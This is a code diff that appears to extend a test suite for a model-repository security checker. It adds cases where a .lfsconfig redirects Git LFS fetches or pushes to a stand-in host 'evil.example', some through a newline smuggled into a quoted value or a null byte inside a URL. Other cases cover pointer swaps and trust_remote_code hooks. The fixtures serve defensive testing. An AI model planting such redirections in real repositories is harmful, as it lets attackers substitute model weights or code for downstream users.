@@ -39,6 +39,12 @@ def pointer(oid: str, size: int) -> str:
     return f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {size}\n"
 
 
+def lfs_config(name: str, text: str, rule: str = "unlisted-destination") -> Attack:
+    """Return a pointer in a repository that says where its content is."""
+    contents = {"a.gguf": pointer("0" * 64, 4), ".lfsconfig": text}
+    return Attack(name, "", files(contents), rule, ".lfsconfig")
+
+
 def locked(content: bytes | str) -> Write:
     """Return a writer of a file that the lock knows as another one."""
     digest = hashlib.sha256(GGUF).hexdigest()
@@ -122,6 +128,12 @@ ATTACKS = [
     Attack("names that differ in their accents only", "", twins, NAME, "mod\u00e8le.gguf"),
     Attack("a pointer without its content", "", file("a.gguf", pointer("0" * 64, 4)), UNREAD, "a.gguf"),
     Attack("a pointer to other content than the lock knows", "LFS pointer swap", locked(pointer("0" * 64, len(GGUF))), "digest-mismatch", "a.gguf"),
+    lfs_config("another host for the content behind pointers", "[lfs]\nurl = https://evil.example/x\n"),
+    lfs_config("another host to put content", "[lfs]\npushurl = git@evil.example:x\n"),
+    lfs_config("another host for one remote", '[remote "origin"]\nlfsurl = https://evil.example/x\n'),
+    lfs_config("a host that only the second reading of .lfsconfig shows", '[lfs]\nfetchexclude = "x\\nlfs.url=https://evil.example/x"\n'),
+    lfs_config("a host in a file that .lfsconfig includes", "[include]\npath = x.config\n", UNREAD),
+    lfs_config("a .lfsconfig that readers read differently", "[lfs]\nurl = https://good.example\0.evil.example\n", UNREAD),
     Attack("weights changed in place", "HiddenLayer 2024", locked(bytes(raw.Gguf(data=b"\1" * 128))), "digest-mismatch", "a.gguf"),
     companion("code that the configuration names", "trust_remote_code", "config.json", {"auto_map": {"AutoModel": "modeling.Evil"}}),
     companion("code in another repository", "trust_remote_code", "config.json", {"auto_map": {"AutoModel": "evil/repo--modeling.Evil"}}),
